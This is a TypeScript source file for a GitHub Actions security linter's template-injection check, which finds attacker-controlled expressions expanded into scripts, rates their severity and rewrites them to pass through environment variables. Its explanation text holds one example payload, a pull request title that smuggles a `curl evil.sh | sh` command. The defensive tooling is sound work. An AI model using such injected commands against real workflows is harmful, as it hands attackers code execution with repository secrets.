import type { Check, CheckContext, StepSite } from '../src/check.js';
import { eventNames, PRIVILEGED_UNTRUSTED_EVENTS, usesAction } from '../src/analysis/facts.js';
import { valuePaths } from '../src/model/expressions.js';
import { expressionsIn, type Job, type Step, type Workflow } from '../src/model/workflow.js';
import { asString, isMap } from '../src/model/yaml.js';
import { isTokenSecret, secretUsesInJob } from '../src/analysis/secrets.js';
import { moveToEnv } from '../src/edits/env-move.js';
import { isAttackerControlled } from '../src/analysis/taint.js';
import type { Severity, SourceRange } from '../src/types.js';

export const templateInjection: Check = {
  meta: {
    id: 'template-injection',
    title: 'Attacker-controlled text expanded into a script',
    area: 'injection',
    severity: 'high',
    description:
      'A `${{ }}` expression whose value an outsider controls (titles, bodies, branch names, commit messages…) inside `run:` or actions/github-script `script:`.',
    why:
      'GitHub substitutes `${{ }}` into the script text before the shell or JavaScript runs it. A pull request titled ' +
      '`"; curl evil.sh | sh #` becomes code that runs with the job\'s token and secrets. In workflows triggered by ' +
      'pull_request_target, issue_comment or issues this hands the repository to anyone with a GitHub account.',
    howToFix:
      'Pass the value through an environment variable and quote it in the script: `env: TITLE: ${{ github.event.pull_request.title }}` then `echo "$TITLE"`.',
    example:
      '- run: echo "${{ github.event.issue.title }}"\n+ env:\n+   ISSUE_TITLE: ${{ github.event.issue.title }}\n+ run: echo "$ISSUE_TITLE"',
    fixable: true,
  },
  step(step, site, ctx) {
    const { workflow: wf, job, action } = site;
    if (wf && job) {
      const { untrusted, textInputs } = ctx.memo.get('template-injection/workflow', wf, () => ({
        untrusted: eventNames(wf).filter((e) => PRIVILEGED_UNTRUSTED_EVENTS.has(e)),
        textInputs: textInputNames(wf),
      }));
      // Only asked when an input is expanded; reading every job's secrets up front is wasted work.
      const privileged = (): boolean => untrusted.length > 0 || hasWriteToken(wf, job) || referencesSecrets(wf, job, ctx);
      scanStep(ctx, site, step, (path) => {
        if (isAttackerControlled(path)) {
          const severity: Severity = untrusted.length > 0 ? 'critical' : 'high';
          return { severity, kind: 'event', why: untrusted.length > 0 ? ` in a workflow run by ${untrusted.join(', ')}` : '' };
        }
        const input = inputName(path);
        if (input && textInputs.has(input) && privileged()) return { severity: 'medium', kind: 'privileged-input', why: ' (a free-text input of a privileged workflow)' };
        return undefined;
      });
    } else if (action) {
      const tainted = ctx.memo.get('template-injection/tainted-inputs', ctx.repo, () => taintedLocalInputs(ctx.repo.workflows));
      const inputs = ctx.memo.get('template-injection/action-inputs', action, () => new Set(action.inputs.map((i) => i.toLowerCase())));
      const dir = action.file.slice(0, action.file.lastIndexOf('/'));
      scanStep(ctx, site, step, (path) => {
        if (isAttackerControlled(path)) return { severity: 'high', kind: 'event', why: '' };
        const input = inputName(path);
        if (!input || !inputs.has(input)) return undefined;
        const caller = tainted.get(`${dir}#${input}`);
        if (caller) {
          return {
            severity: caller.untrusted ? 'critical' : 'high',
            kind: 'tainted-action-input',
            why: ` and ${caller.file} passes \`${caller.path}\` into it${caller.untrusted ? ` from a workflow run by ${caller.untrusted}` : ''}`,
            related: { file: caller.file, range: caller.range, note: `passes \`${caller.path}\` into this input` },
          };
        }
        return { severity: 'low', kind: 'action-input', why: ' (an action input: safe only while every caller passes trusted text)' };
      });
    }
  },
};

type Verdict = { severity: Severity; kind: string; why: string; related?: { file: string; range: SourceRange; note: string } } | undefined;

function scanStep(ctx: CheckContext, site: StepSite, step: Step, judge: (path: string) => Verdict): void {
  const { yaml } = site;
  const stepPath = [...site.stepsPath, step.index];
  const script = step.run ?? (usesAction(step, 'actions/github-script') ? step.with.get('script') : undefined);
  if (!script) return;
  const where = step.run ? 'run:' : 'github-script `script:`';
  for (const expr of expressionsIn(yaml, script.node)) {
    if (!expr.expr) continue;
    for (const path of valuePaths(expr.expr)) {
      const verdict = judge(path);
      if (!verdict) continue;
      ctx.report({
        file: yaml.path,
        range: expr.range,
        severity: verdict.severity,
        confidence: verdict.severity === 'low' ? 'medium' : 'high',
        messageId: `${verdict.kind}${step.run ? '' : '-script'}`,
        message: `\`${path}\` is expanded into ${where}${verdict.why}; pass it through env: instead`,
        fix: () => (step.run ? moveToEnv(yaml, step, stepPath, expr, path) : { refused: 'github-script code must read process.env itself' }),
        ...(verdict.related ? { related: [verdict.related] } : {}),
      });
      break;
    }
  }
}

function inputName(path: string): string | undefined {
  const m = /^(?:inputs|github\.event\.inputs)\.([^.]+)$/.exec(path);
  return m?.[1];
}

/** workflow_dispatch / workflow_call inputs that can hold arbitrary text (not boolean, number or choice). */
function textInputNames(wf: Workflow): Set<string> {
  const out = new Set<string>();
  for (const t of wf.triggers) {
    if ((t.event !== 'workflow_dispatch' && t.event !== 'workflow_call') || !isMap(t.config)) continue;
    const inputs = wf.yaml.get(t.config, 'inputs');
    if (!isMap(inputs)) continue;
    for (const { key, value } of wf.yaml.entries(inputs)) {
      const type = isMap(value) ? asString(wf.yaml.get(value, 'type')) : undefined;
      if (type === 'boolean' || type === 'number' || type === 'choice' || type === 'environment') continue;
      out.add(key.toLowerCase());
    }
  }
  return out;
}

function hasWriteToken(wf: Workflow, job: Job): boolean {
  const perms = job.permissions ?? wf.permissions;
  if (!perms) return false;
  return perms.kind === 'write-all' || perms.scopes.some((s) => s.level === 'write');
}

function referencesSecrets(wf: Workflow, job: Job, ctx: CheckContext): boolean {
  return secretUsesInJob(wf, job, ctx.memo).some((u) => !isTokenSecret(u.name));
}

interface TaintedInput {
  file: string;
  path: string;
  range: SourceRange;
  /** The privileged untrusted events of the calling workflow, if any. */
  untrusted: string;
}

/** Inputs of local actions (`uses: ./dir`) that some workflow fills with attacker-controlled text. */
function taintedLocalInputs(workflows: readonly Workflow[]): Map<string, TaintedInput> {
  const out = new Map<string, TaintedInput>();
  for (const wf of workflows) {
    const untrusted = eventNames(wf).filter((e) => PRIVILEGED_UNTRUSTED_EVENTS.has(e)).join(', ');
    for (const job of wf.jobs) {
      for (const step of job.steps) {
        if (step.uses?.kind !== 'local' || !step.uses.path) continue;
        for (const [input, value] of step.with) {
          for (const expr of expressionsIn(wf.yaml, value.node)) {
            const path = expr.expr ? valuePaths(expr.expr).find(isAttackerControlled) : undefined;
            const key = `${step.uses.path}#${input.toLowerCase()}`;
            if (path && (!out.has(key) || (untrusted && !out.get(key)!.untrusted))) {
              out.set(key, { file: wf.file, path, range: expr.range, untrusted });
            }
          }
        }
      }
    }
  }
  return out;
}
